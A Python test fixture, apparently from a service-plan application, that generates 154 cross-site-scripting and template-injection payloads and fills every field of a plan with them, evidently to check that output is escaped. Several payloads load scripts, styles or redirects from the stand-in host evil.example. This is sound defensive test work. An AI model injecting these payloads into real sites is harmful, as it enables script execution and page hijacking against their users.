"""What somebody may write into a plan to have a browser run or load something, and a plan that says it everywhere."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from itertools import cycle
from typing import Any

from msp_desk.values.plan_content import NumberSaid, PlanContent

_TAGS = (
    "<script>alert({n})</script>",
    "<ScRiPt src=//evil.example/{n}.js></sCrIpT>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<a href=javascript:alert({n})>x</a>",
    "<math><mi xlink:href='javascript:alert({n})'>x</mi></math>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<style>@import url(//evil.example/{n}.css);</style>",
    "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}>",
    "<form action=//evil.example/{n}><button>x</button></form>",
    "<!--><script>alert({n})</script>-->",
    "{{{{ {n} * 7 }}}}",
    "${{alert({n})}}",
)
_AROUND = ("%s", '">%s', "'>%s", "</title>%s", "</style>%s", "</script>%s", "</textarea>%s")

#: A hundred and fifty-four of them, each as text, and as the end of what it may stand in.
ATTACKS = tuple(
    (around % tag.format(n=number))
    for number, (tag, around) in enumerate((tag, around) for tag in _TAGS for around in _AROUND)
)


def everywhere(content: PlanContent, texts: Sequence[str]) -> PlanContent:
    """The content with the texts one after the other in all of its fields; each stands somewhere."""
    next_of = cycle(texts)

    def said() -> str:
        return next(next_of)

    def filled(value: Any, *fields: str) -> Any:
        return replace(value, **{field: said() for field in fields})

    many = range(max(1, -(-len(texts) // 6)))
    scope, promise, step = content.scope[0], content.commitments[0], content.procedures[0].steps[0]
    items = (replace(scope, key=f"s{n}", sites=(said(),)) for n in many)
    promises = (replace(promise, key=f"c{n}") for n in many)
    seats = (
        replace(seat, numbers=tuple(NumberSaid(point.kind, said(), said()) for point in seat.numbers))
        for seat in content.seats
    )
    procedures = (replace(p, steps=(filled(step, "text", "who"),)) for p in content.procedures)
    ladders = (
        replace(ladder, rungs=tuple(filled(rung, "number") for rung in ladder.rungs))
        for ladder in content.ladders
    )
    return replace(
        content,
        introduction=said(),
        firm=filled(content.firm, "name", "legal_name", "tax_id", "address"),
        client=filled(content.client, "legal_name", "address"),
        scope=tuple(
            filled(i, "service", "name", "quantity", "unit", "hours", "limits", "notes") for i in items
        ),
        seats=tuple(filled(seat, "holder", "title", "unit") for seat in seats),
        roles=tuple(filled(role, "contact_for", "hours") for role in content.roles),
        counterparts=tuple(filled(tie, "topic") for tie in content.counterparts),
        procedures=tuple(filled(p, "name", "needed", "hours") for p in procedures),
        commitments=tuple(
            filled(p, "service", "indicator", "hours", "measured_how", "measured_from", "exclusions")
            for p in promises
        ),
        ladders=tuple(filled(ladder, "severity", "description") for ladder in ladders),
    )
